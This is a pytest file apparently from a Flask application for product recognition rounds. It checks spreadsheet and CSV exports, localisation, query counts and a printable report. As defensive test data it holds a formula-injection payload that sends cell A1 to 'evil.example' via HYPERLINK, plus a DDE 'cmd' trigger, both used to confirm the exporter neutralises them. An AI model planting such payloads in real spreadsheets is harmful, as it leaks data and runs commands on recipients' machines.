"""A round's exports and its printable report, fetched through HTTP and read back: the XLSX opens with
openpyxl and holds the database's rows, the CSV starts with a BOM and round-trips through the csv
module, text that would run as a formula stays text, the queries do not grow with the rows."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from babel.dates import format_date as babel_format_date
from flask_babel import force_locale
from openpyxl import load_workbook
from sqlalchemy import select

from recognition.accounts.models import Role
from recognition.cases.models import Application, State
from recognition.clock import to_local
from recognition.extensions import db
from recognition.honours.models import Certificate
from recognition.reports.exports import Column, Table, is_formula_like, to_csv, to_xlsx
from recognition.review import services
from recognition.review.rubric import apply_default_rubric
from recognition.review.scoring import criteria_of
from tests.conftest import fire, login
from tests.honours.test_documents import endorsed
from tests.queries import queries_to_get
from tests.review.builders import scores_summing_to, submit_scores

HEADERS_EN = {
    "applications": [
        "Receipt code", "Enterprise", "Tax code", "Product", "Administrative unit", "Sector", "Status",
        "Submitted on", "Total score", "Outcome",
    ],
    "scores": ["Receipt code", "Council member", "Criterion", "Points"],
    "certificates": [
        "Serial", "Product", "Enterprise", "Decision number", "Decision date", "Valid until", "Status",
    ],
}  # fmt: skip
SHEETS_EN = {"applications": "Applications", "scores": "Scores", "certificates": "Certificates"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TOTALS = {"strong": (82, 78), "weak": (50, 60)}
CENT = Decimal("0.01")  # scores are kept to the cent


def secretariat_client(app, make, lang="en"):
    client = app.test_client()
    assert login(client, make.user(Role.secretariat)).status_code == 302
    client.get(f"/lang/{lang}")
    return client


@pytest.fixture
def secretariat(app, make):
    return secretariat_client(app, make)


@pytest.fixture
def exported(app, make):
    """A round with a dossier in each of these states: recognised (certificate issued), not
    recommended, being vetted, submitted; and a draft, which is not the secretariat's to export.
    Two members score per criterion; the recognised product's name is a formula."""
    round_ = make.round(year=2033, reviewers_per_dossier=2, target_products_min=1, target_products_max=2)
    apply_default_rubric(round_)
    members = [make.user(Role.council_member) for _ in range(2)]
    for member, name in zip(members, ("Tran Thi Binh", "Nguyen Van An"), strict=True):
        member.full_name = name
        services.add_council_member(round_, member)
    db.session.commit()
    strong = endorsed(make, round_, "Công ty Cổ phần Dệt may Thăng Long", FORMULA, 180_000_000_000)
    weak = endorsed(make, round_, "@Công ty TNHH Nhựa Sóc Sơn", "Ống nhựa HDPE", 120_000_000_000)
    secretariat_user = make.user(Role.secretariat)
    for application, totals in ((strong, TOTALS["strong"]), (weak, TOTALS["weak"])):
        assignments = [services.assign_reviewer(application, m) for m in members]
        db.session.commit()
        fire(application, "open_review", secretariat_user)
        for assignment, total in zip(assignments, totals, strict=True):
            submit_scores(assignment, scores_summing_to(total))
        fire(application, "conclude_review", secretariat_user)
    assert (strong.state, weak.state) == (State.recommended, State.not_recommended)
    make.publish_results(round_)
    fire(strong, "recognise", secretariat_user)
    vetting = make.application(round=round_)
    fire(vetting, "submit", make.applicant_of(vetting))
    fire(vetting, "start_vetting", make.officer_of(vetting))
    submitted = make.application(round=round_)
    fire(submitted, "submit", make.applicant_of(submitted))
    draft = make.application(round=round_)
    # A later rename does not reach the export: it states the dossier as submitted.
    strong.enterprise.name = "Tên mới sau khi nộp"
    db.session.commit()
    return round_, {
        "strong": strong,
        "weak": weak,
        "vetting": vetting,
        "submitted": submitted,
        "draft": draft,
    }


def expected_rows(round_) -> dict[str, list[tuple]]:
    """The database's rows, computed here: dossiers as submitted, totals by hand, certificates."""
    db.session.expire_all()
    applications = db.session.scalars(
        select(Application)
        .where(Application.round_id == round_.id, Application.state != State.draft)
        .order_by(Application.submitted_at, Application.id)
    ).all()
    hand_totals = {state: (Decimal(sum(t)) / 2).quantize(CENT) for state, t in TOTALS.items()}
    totals = {State.recognised: hand_totals["strong"], State.not_recommended: hand_totals["weak"]}
    outcomes = {State.recognised: "Recommended", State.not_recommended: "Not recommended"}
    labels = {
        State.recognised: "Recognised", State.not_recommended: "Not recommended",
        State.vetting: "Being vetted", State.submitted: "Submitted",
    }  # fmt: skip
    application_rows = [
        (
            a.receipt_code,
            a.enterprise_record.name,
            a.enterprise_record.tax_code,
            a.product_record.name,
            a.enterprise_record.unit.name,
            a.product_record.sector.name_en,
            labels[a.state],
            to_local(a.submitted_at).date(),
            totals.get(a.state),
            outcomes.get(a.state),
        )
        for a in applications
    ]
    criteria = [c.code for c in criteria_of(round_.id)]
    score_rows = []
    by_code = {a.receipt_code: a for a in applications if a.state in totals}
    for code in sorted(by_code):
        member_totals = TOTALS["strong" if by_code[code].state == State.recognised else "weak"]
        # Tran Thi Binh scored the first total, Nguyen Van An the second; rows go by member name.
        for name, total in sorted(zip(("Tran Thi Binh", "Nguyen Van An"), member_totals, strict=True)):
            points = scores_summing_to(total)
            score_rows += [
                (code, name, criterion, Decimal(points[criterion]).quantize(CENT)) for criterion in criteria
            ]
    certificate_rows = [
        (
            c.serial,
            c.product_name,
            c.enterprise_name,
            c.decision_number,
            c.decision_date,
            c.valid_until,
            "Valid",
        )
        for c in db.session.scalars(select(Certificate).where(Certificate.round_id == round_.id))
    ]
    return {"applications": application_rows, "scores": score_rows, "certificates": certificate_rows}


def download(client, url: str, mimetype: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert response.mimetype == mimetype
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return response.data


def read_back(value, header: str):
    """A cell as the database holds it: dates as dates, numbers as decimals."""
    if isinstance(value, datetime):
        return value.date()
    if isinstance(value, int | float) and header in ("Total score", "Points"):
        return Decimal(str(value)).quantize(CENT)
    return value


def downloaded_workbook(secretariat, round_):
    """The round's workbook as the secretariat downloads it (checked as an XLSX attachment)."""
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    data = download(secretariat, f"/secretariat/exports/rounds/{round_.id}.xlsx", xlsx)
    return load_workbook(io.BytesIO(data))


def test_the_workbook_opens_with_openpyxl_and_its_rows_equal_the_databases(exported, secretariat):
    round_, dossiers = exported
    workbook = downloaded_workbook(secretariat, round_)
    assert workbook.sheetnames == list(SHEETS_EN.values())
    expected = expected_rows(round_)
    assert len(expected["applications"]) == 4 and len(expected["certificates"]) == 1
    assert len(expected["scores"]) == 2 * 2 * 12  # two dossiers, two members, twelve criteria
    for name, title in SHEETS_EN.items():
        sheet = workbook[title]
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == HEADERS_EN[name]
        got = [tuple(read_back(v, h) for v, h in zip(row, HEADERS_EN[name], strict=True)) for row in rows[1:]]
        assert got == expected[name], name
        # Formatted: a bold header row, frozen; set column widths.
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["B"].width > 10
    draft_product = dossiers["draft"].product.name
    assert draft_product not in [row[3] for row in workbook["Applications"].iter_rows(values_only=True)]
    applications = workbook["Applications"]
    submitted_on = applications.cell(row=2, column=8)
    assert submitted_on.is_date and submitted_on.number_format == "mmm d, yyyy"  # the English UI
    total = applications.cell(row=2, column=9)
    assert total.data_type == "n" and total.number_format == "0.00"
    certificates = workbook["Certificates"]
    assert certificates.cell(row=2, column=5).is_date
    assert certificates.cell(row=2, column=6).number_format == "mmm d, yyyy"


def test_the_product_named_as_a_formula_stays_text_in_the_workbook(exported, secretariat):
    round_, dossiers = exported
    workbook = downloaded_workbook(secretariat, round_)
    cells = [c for row in workbook["Applications"].iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].quotePrefix
    names = {c.value: c for c in next(workbook["Applications"].iter_cols(min_col=2, max_col=2, min_row=2))}
    at_sign = names["@Công ty TNHH Nhựa Sóc Sơn"]
    assert at_sign.data_type == "s" and at_sign.quotePrefix
    # No formula anywhere in the workbook.
    for sheet in workbook:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:10]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_csv(value) -> str:
    if value is None:
        return ""
    if isinstance(value, date):
        return babel_format_date(value, "medium", locale="en")  # these downloads are in English
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return str(value)


@pytest.mark.parametrize("name", ["applications", "scores", "certificates"])
def test_each_csv_starts_with_a_bom_and_round_trips_through_the_csv_module(exported, secretariat, name):
    round_, _dossiers = exported
    data = download(secretariat, f"/secretariat/exports/rounds/{round_.id}/{name}.csv", "text/csv")
    rows = csv_rows(data)
    assert rows[0] == HEADERS_EN[name]
    assert rows[1:] == [[as_csv(v) for v in row] for row in expected_rows(round_)[name]]


def test_the_csv_quotes_the_formula_and_the_at_sign(exported, secretariat):
    round_, _dossiers = exported
    rows = csv_rows(secretariat.get(f"/secretariat/exports/rounds/{round_.id}/applications.csv").data)
    products = [row[3] for row in rows[1:]]
    assert "'" + FORMULA in products and FORMULA not in products
    assert "'@Công ty TNHH Nhựa Sóc Sơn" in [row[1] for row in rows[1:]]


def test_headers_are_vietnamese_by_default(app, make, exported):
    round_, _dossiers = exported
    client = secretariat_client(app, make, lang="vi")
    workbook = load_workbook(io.BytesIO(client.get(f"/secretariat/exports/rounds/{round_.id}.xlsx").data))
    header = [c.value for c in workbook.worksheets[0][1]][:4]
    assert header == ["Mã hồ sơ", "Doanh nghiệp", "Mã số thuế", "Sản phẩm"]
    assert workbook.worksheets[2].title == "Giấy chứng nhận"
    rows = csv_rows(client.get(f"/secretariat/exports/rounds/{round_.id}/certificates.csv").data)
    assert rows[0][:3] == ["Số hiệu", "Sản phẩm", "Doanh nghiệp"]


TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=cmd|" /C calc"!A0']


@pytest.mark.parametrize("text", TRIGGERS)
def test_formula_like_text_is_written_as_text_in_both_formats(app, text):
    table = Table("t", "Sheet", (Column("Name"), Column("Day", "date"), Column("Points", "points")), [
        (text, date(2025, 3, 9), Decimal("7.50")),
        ("Công ty = An toàn", None, None),
    ])  # fmt: skip
    with app.test_request_context():
        workbook = load_workbook(io.BytesIO(to_xlsx([table])))
        rows = csv_rows(to_csv(table))
    cell = workbook["Sheet"]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert workbook["Sheet"]["A3"].quotePrefix is False  # only text that starts like a formula
    assert rows[1] == ["'" + text, "09/03/2025", "7.50"]
    assert rows[2] == ["Công ty = An toàn", "", ""]


def test_days_follow_the_readers_language_in_both_formats(app):
    table = Table("t", "Sheet", (Column("Day", "date"),), [(date(2025, 3, 9),)])
    for language, shown, number_format in (
        ("vi", "09/03/2025", "DD/MM/YYYY"),
        ("en", "Mar 9, 2025", "mmm d, yyyy"),
    ):
        with app.test_request_context(), force_locale(language):
            workbook = load_workbook(io.BytesIO(to_xlsx([table])))
            rows = csv_rows(to_csv(table))
        cell = workbook["Sheet"]["A2"]
        assert cell.is_date and cell.value.date() == date(2025, 3, 9) and cell.number_format == number_format
        assert rows[1] == [shown]


def test_the_rule_is_the_owasp_list():
    assert [is_formula_like(t) for t in TRIGGERS] == [True] * len(TRIGGERS)
    assert not any(is_formula_like(t) for t in ("", "0100233488", "Máy biến áp", " =1", "'=1"))


def test_exports_and_report_read_in_a_constant_number_of_queries(app, make, exported, secretariat):
    round_, _dossiers = exported
    urls = [
        f"/secretariat/exports/rounds/{round_.id}.xlsx",
        *(f"/secretariat/exports/rounds/{round_.id}/{name}.csv" for name in SHEETS_EN),
        f"/secretariat/exports/rounds/{round_.id}/report",
    ]
    for url in urls:
        secretariat.get(url)  # warm-up
    few = [queries_to_get(secretariat, url) for url in urls]
    for _ in range(6):  # more dossiers, other enterprises, other units
        application = make.application(round=round_, enterprise=make.enterprise("P-HADONG"))
        fire(application, "submit", make.applicant_of(application))
    many = [queries_to_get(secretariat, url) for url in urls]
    assert many == few


def test_the_report_counts_states_lists_the_recognised_and_the_targets(exported, secretariat):
    round_, dossiers = exported
    page = secretariat.get(f"/secretariat/exports/rounds/{round_.id}/report")
    assert page.status_code == 200
    html = page.text
    for state, count in (
        ("recognised", 1),
        ("not_recommended", 1),
        ("vetting", 1),
        ("submitted", 1),
        ("draft", 1),
    ):
        assert f'<tr data-state="{state}"><td>' in html
        row = html.split(f'<tr data-state="{state}">')[1].split("</tr>")[0]
        assert f'<td class="text-end">{count}</td>' in row, (state, row)
    assert '<th class="text-end" id="submitted-total">4</th>' in html
    certificate = db.session.scalar(select(Certificate).where(Certificate.round_id == round_.id))
    recognised = html.split('id="report-recognised"')[1]
    assert certificate.serial in recognised and "Công ty Cổ phần Dệt may Thăng Long" in recognised
    targets = html.split('id="report-targets"')[1].split("</section>")[0]
    assert "Recognised products" in targets and "1–2" in targets and "Target met" in targets
    assert "0 of 1 recognised enterprises supported (0%), against a target of 100%." in targets
    # Printable: its own print stylesheet, the exports' links hidden on paper.
    assert '<link rel="stylesheet" href="/static/css/report.css">' in html
    assert '<div class="no-print">' in html
    css = secretariat.get("/static/css/report.css").text
    assert "@media print" in css and ".no-print" in css
    assert f'href="/secretariat/exports/rounds/{round_.id}.xlsx"' in html


def test_the_round_pages_link_the_report_and_exports(exported, secretariat):
    round_, _dossiers = exported
    for url in (f"/secretariat/honours/rounds/{round_.id}", f"/secretariat/rounds/{round_.id}"):
        html = secretariat.get(url).text
        assert f'href="/secretariat/exports/rounds/{round_.id}/report"' in html, url
        assert f'href="/secretariat/support/rounds/{round_.id}"' in html, url


def test_an_unknown_round_is_not_found(secretariat):
    for url in ("/secretariat/exports/rounds/999.xlsx", "/secretariat/exports/rounds/999/scores.csv",
                "/secretariat/exports/rounds/999/report"):  # fmt: skip
        assert secretariat.get(url).status_code == 404


def test_a_round_without_dossiers_exports_headers_only(app, make, secretariat):
    round_ = make.round()
    workbook = load_workbook(
        io.BytesIO(secretariat.get(f"/secretariat/exports/rounds/{round_.id}.xlsx").data)
    )
    assert [sheet.max_row for sheet in workbook] == [1, 1, 1]
    rows = csv_rows(secretariat.get(f"/secretariat/exports/rounds/{round_.id}/applications.csv").data)
    assert rows == [HEADERS_EN["applications"]]
